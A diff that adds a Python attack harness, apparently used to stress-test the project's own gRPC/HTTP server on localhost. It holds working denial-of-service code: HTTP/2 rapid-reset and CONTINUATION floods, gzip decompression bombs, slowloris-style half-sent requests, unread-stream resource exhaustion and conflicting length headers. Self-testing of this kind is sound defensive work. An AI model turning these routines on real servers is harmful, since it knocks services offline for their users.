@@ -1,0 +1,356 @@
+"""Hostile connections: what a program can do to a server by how it sends and reads, whatever it sends.
+
+`python -m attacks.connections NAME GRPC HTTP SECONDS` makes one of them against a server on this machine, says
+`attacking` when it is under way, goes on for so many seconds, and prints what became of it as JSON.
+"""
+
+from __future__ import annotations
+
+import asyncio
+import gzip
+import json
+import os
+import struct
+import sys
+from collections import Counter
+from collections.abc import Awaitable, Callable
+from contextlib import suppress
+
+from tallymark.v1 import event_log_pb2, model_registry_pb2
+
+PROJECT = "projects/default"
+LARGE = 4 * 1024 * 1024 - 1024
+MODELS, LOG = "/tallymark.v1.ModelRegistry", "/tallymark.v1.EventLog"
+DATA, HEADERS, RESET, SETTINGS, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 8, 9
+END_STREAM, END_HEADERS, ACK = 1, 4, 1
+FRAME = 16 * 1024
+
+
+# What is held to the end.
+_KEPT: list[object] = []
+
+
+class Streams:
+    """A connection of HTTP/2 whose streams are filled and never read: of what comes, only room for more is heeded."""
+
+    def __init__(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter, window: int) -> None:
+        self._reader = reader
+        self._writer = writer
+        self._rooms: Counter[int] = Counter({0: 65_535})
+        self._initial = 65_535
+        self._more = asyncio.Event()
+        self._next = 1
+        self.ended = False
+        writer.write(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0, struct.pack(">HI", 4, window)))
+        self._listening = asyncio.create_task(self._listen())
+        # What nobody refers to would be closed.
+        _KEPT.append(self)
+
+    @classmethod
+    async def open(cls, address: str, window: int = 0) -> Streams:
+        """Connect; each stream lets the server send so many bytes."""
+        host, _, port = address.rpartition(":")
+        return cls(*await asyncio.open_connection(host.strip("[]"), int(port)), window)
+
+    async def _listen(self) -> None:
+        with suppress(OSError, asyncio.IncompleteReadError):
+            while True:
+                head = await self._reader.readexactly(9)
+                body = await self._reader.readexactly(int.from_bytes(head[:3], "big"))
+                kind, flags, stream = head[3], head[4], int.from_bytes(head[5:], "big")
+                if kind == WINDOW_UPDATE:
+                    self._rooms[stream] += int.from_bytes(body, "big")
+                elif kind == SETTINGS and not flags & ACK:
+                    self._writer.write(frame(SETTINGS, ACK, 0, b""))
+                    for at in range(0, len(body), 6):
+                        name, value = struct.unpack(">HI", body[at : at + 6])
+                        self._initial = value if name == 4 else self._initial
+                self._more.set()
+        self.ended = True
+        self._more.set()
+
+    def begin(self, path: str, *more: tuple[str, str]) -> int:
+        """Begin a call, and return its stream."""
+        stream, self._next = self._next, self._next + 2
+        self._rooms[stream] = 0
+        self._writer.write(frame(HEADERS, END_HEADERS, stream, headers(path, *more)))
+        return stream
+
+    def reset(self, stream: int) -> None:
+        """Give up a call."""
+        self._writer.write(frame(RESET, 0, stream, struct.pack(">I", 8)))
+
+    def write(self, data: bytes) -> None:
+        """Write bytes as they are."""
+        self._writer.write(data)
+
+    async def send(self, stream: int, data: bytes, *, end: bool) -> None:
+        """Send data as there is room for it, until all is sent or the connection is ended."""
+        while data and not self.ended:
+            room = min(self._rooms[0], self._initial + self._rooms[stream], FRAME, len(data))
+            if room <= 0:
+                self._more.clear()
+                await self._more.wait()
+                continue
+            piece, data = data[:room], data[room:]
+            self._writer.write(frame(DATA, END_STREAM if end and not data else 0, stream, piece))
+            self._rooms[0] -= room
+            self._rooms[stream] -= room
+            await self._writer.drain()
+
+    async def call(self, path: str, message: bytes, *more: tuple[str, str]) -> None:
+        """Send a whole request."""
+        await self.send(self.begin(path, *more), grpc_message(message), end=True)
+
+    async def drain(self) -> None:
+        """Wait until the server takes what is written."""
+        await self._writer.drain()
+
+
+def frame(kind: int, flags: int, stream: int, body: bytes) -> bytes:
+    """Return a frame of HTTP/2."""
+    return len(body).to_bytes(3, "big") + bytes((kind, flags)) + stream.to_bytes(4, "big") + body
+
+
+def headers(path: str, *more: tuple[str, str]) -> bytes:
+    """Return the headers of a call, none of them compressed."""
+    fixed = ((":method", "POST"), (":scheme", "http"), (":path", path), (":authority", "localhost"))
+    said = (*fixed, ("content-type", "application/grpc"), ("te", "trailers"), *more)
+    return b"".join(b"\0" + _text(name) + _text(value) for name, value in said)
+
+
+def _text(text: str) -> bytes:
+    data = text.encode()
+    if len(data) < 127:
+        return bytes((len(data),)) + data
+    length, rest = bytearray((127,)), len(data) - 127
+    while rest > 127:
+        length.append(rest & 127 | 128)
+        rest >>= 7
+    return bytes([*length, rest]) + data
+
+
+def grpc_message(data: bytes, *, compressed: bool = False) -> bytes:
+    """Return a message with its length before it."""
+    return bytes((compressed,)) + len(data).to_bytes(4, "big") + data
+
+
+class Target:
+    """The ports of the server that is attacked."""
+
+    def __init__(self, grpc: str, http: str) -> None:
+        self.grpc = grpc
+        self.http = http
+
+    async def raw(self, address: str, data: bytes) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
+        """Connect, and write."""
+        host, _, port = address.rpartition(":")
+        reader, writer = await asyncio.open_connection(host, int(port), limit=4096)
+        writer.write(data)
+        return reader, writer
+
+
+async def half_messages(target: Target) -> str:
+    """200 calls, each with a message of 4 MB of which the last byte never comes."""
+    message = grpc_message(b"x" * LARGE)[:-1]
+
+    async def one() -> None:
+        streams = await Streams.open(target.grpc)
+        await streams.send(streams.begin(f"{MODELS}/CreateModelVersion"), message, end=False)
+
+    return await _many(200, one)
+
+
+async def unread_lists(target: Target) -> str:
+    """750 lists over 150 connections, of which nothing is read."""
+    request = model_registry_pb2.ListModelVersionsRequest(parent=f"{PROJECT}/models/large", page_size=1000)
+
+    async def one() -> None:
+        streams = await Streams.open(target.grpc)
+        for _ in range(5):
+            await streams.call(f"{MODELS}/ListModelVersions", request.SerializeToString())
+
+    return await _many(150, one)
+
+
+async def unread_watches(target: Target) -> str:
+    """200 watches of the whole log, of which nothing is read."""
+    request = event_log_pb2.WatchRequest(parent=PROJECT, after_revision=0)
+    return await _many(200, lambda: _unread(target, f"{LOG}/Watch", request.SerializeToString()))
+
+
+async def idle_watches(target: Target) -> str:
+    """4,000 watches over 20 connections, of which nothing is read."""
+    request = event_log_pb2.WatchRequest(parent=PROJECT)
+
+    async def one() -> None:
+        streams = await Streams.open(target.grpc)
+        for _ in range(200):
+            await streams.call(f"{LOG}/Watch", request.SerializeToString())
+
+    return await _many(20, one)
+
+
+async def unread_exports(target: Target) -> str:
+    """50 exports, of which nothing is read."""
+    request = event_log_pb2.ExportRequest(parent=PROJECT)
+    return await _many(50, lambda: _unread(target, f"{LOG}/Export", request.SerializeToString()))
+
+
+async def _unread(target: Target, path: str, message: bytes) -> None:
+    await (await Streams.open(target.grpc)).call(path, message)
+
+
+async def half_posts(target: Target) -> str:
+    """300 bodies of 4 MB over HTTP, of which the last byte never comes."""
+    head = f"POST {MODELS}/CreateModel HTTP/1.1\r\nhost: 127.0.0.1\r\ncontent-type: application/json\r\n"
+    data = f"{head}content-length: {LARGE + 1}\r\n\r\n".encode() + b" " * LARGE
+
+    async def one() -> None:
+        _, writer = await target.raw(target.http, data)
+        await writer.drain()
+
+    return await _many(300, one)
+
+
+async def false_length(target: Target) -> str:
+    """Bodies in chunks without end, each beside a length of 2."""
+    head = f"POST {MODELS}/CreateModel HTTP/1.1\r\nhost: 127.0.0.1\r\ncontent-type: application/json\r\n"
+    begin = f"{head}content-length: 2\r\ntransfer-encoding: chunked\r\n\r\n".encode()
+    chunk = b"10000\r\n" + b" " * 65_536 + b"\r\n"
+
+    async def one() -> None:
+        _, writer = await target.raw(target.http, begin)
+        for _ in range(1000):
+            writer.write(chunk)
+            await writer.drain()
+
+    return await _many(8, one)
+
+
+async def unread_pages(target: Target) -> str:
+    """300 connections that ask for large pages, one after the other, and read none."""
+    ask = b"GET /models/large.json?page_size=100 HTTP/1.1\r\nhost: 127.0.0.1\r\n\r\n"
+
+    async def one() -> None:
+        await target.raw(target.http, ask * 50)
+
+    return await _many(300, one)
+
+
+async def unread_viewers(target: Target) -> str:
+    """1,100 open pages that never read what they are told."""
+    ask = b"GET /live HTTP/1.1\r\nhost: 127.0.0.1\r\n\r\n"
+
+    async def one() -> None:
+        await target.raw(target.http, ask)
+
+    return await _many(1100, one)
+
+
+async def idle_sockets(target: Target) -> str:
+    """700 connections to each port over which nothing comes, or half a head."""
+    halves = {target.grpc: (b"", b"PRI * HTTP/2.0\r\n"), target.http: (b"", b"GET / HTTP/1.1\r\nho")}
+    for address, beginnings in halves.items():
+        for beginning in beginnings:
+            await _many(350, lambda address=address, said=beginning: target.raw(address, said))  # type: ignore[misc]  # a lambda - with its values
+    return "1,400 connected"
+
+
+async def rapid_reset(target: Target) -> str:
+    """Calls that are given up as soon as they have begun."""
+    streams, begun = await Streams.open(target.grpc), 0
+    while not streams.ended and begun < 20_000:
+        for _ in range(20):
+            streams.reset(streams.begin(f"{MODELS}/ListModels"))
+        begun += 20
+        with suppress(ConnectionError):
+            await streams.drain()
+        await asyncio.sleep(0)
+    return f"{begun} begun"
+
+
+async def gzip_bombs(target: Target) -> str:
+    """Messages of 100 kB that are 100 MB when they are decompressed."""
+    bomb = grpc_message(gzip.compress(b"\0" * 100_000_000, 9), compressed=True)
+
+    async def one() -> None:
+        streams = await Streams.open(target.grpc, 65_535)
+        for _ in range(20):
+            stream = streams.begin(f"{MODELS}/CreateModel", ("grpc-encoding", "gzip"))
+            await streams.send(stream, bomb, end=True)
+
+    return await _many(8, one)
+
+
+async def endless_headers(target: Target) -> str:
+    """Headers that go on and on in further frames."""
+
+    async def one() -> None:
+        streams = await Streams.open(target.grpc)
+        streams.write(frame(HEADERS, 0, 1, headers(f"{MODELS}/GetModel")))
+        more = b"".join(b"\0" + _text(f"x-{number}") + _text("y" * 1000) for number in range(15))
+        for _ in range(2000):
+            if streams.ended:
+                return
+            streams.write(frame(CONTINUATION, 0, 1, more))
+            await streams.drain()
+
+    return await _many(4, one)
+
+
+async def _many(count: int, one: Callable[[], Awaitable[object]]) -> str:
+    """Do it so many times at once, 50 of them beginning together."""
+    gate, outcomes = asyncio.Semaphore(50), Counter[str]()
+
+    async def attempt() -> None:
+        async with gate:
+            try:
+                # What the server does not take any more is held all the same.
+                async with asyncio.timeout(2):
+                    _KEPT.append(await one())
+                outcomes["sent"] += 1
+            except TimeoutError:
+                outcomes["held up"] += 1
+            except OSError as error:
+                outcomes[type(error).__name__] += 1
+
+    await asyncio.gather(*(attempt() for _ in range(count)))
+    return ", ".join(f"{number} {outcome}" for outcome, number in outcomes.most_common())
+
+
+ATTACKS: dict[str, Callable[[Target], Awaitable[str]]] = {
+    attack.__name__.replace("_", " "): attack
+    for attack in (
+        half_messages,
+        unread_lists,
+        unread_watches,
+        idle_watches,
+        unread_exports,
+        half_posts,
+        false_length,
+        unread_pages,
+        unread_viewers,
+        idle_sockets,
+        rapid_reset,
+        gzip_bombs,
+        endless_headers,
+    )
+}
+
+
+async def _attack(name: str, target: Target, seconds: float) -> None:
+    print("attacking", flush=True)
+    became = "cut short"
+    with suppress(TimeoutError):
+        async with asyncio.timeout(seconds):
+            became = await ATTACKS[name](target)
+            await asyncio.Event().wait()
+    print(json.dumps(became), flush=True)
+    # The connections end with the process, and need no farewell.
+    os._exit(0)
+
+
+if __name__ == "__main__":
+    _, which, grpc_port, http_port, length = sys.argv
+    asyncio.run(_attack(which, Target(grpc_port, http_port), float(length)))
